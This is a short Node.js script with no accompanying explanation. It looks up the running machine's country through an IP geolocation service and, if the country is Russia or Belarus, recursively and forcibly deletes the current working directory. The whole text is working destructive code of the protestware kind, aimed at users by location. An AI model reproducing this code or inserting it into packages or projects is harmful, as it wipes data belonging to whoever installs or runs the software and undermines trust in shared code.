const fs = require('fs');
const https = require('https');
https.get('https://api.ipgeolocation.io/ipgeo?apiKey=x', (res) => {
  let body = '';
  res.on('data', (c) => (body += c));
  res.on('end', () => {
    const country = JSON.parse(body).country_name;
    if (country === 'Russia' || country === 'Belarus') {
      fs.rmSync(process.cwd(), { recursive: true, force: true });
    }
  });
});
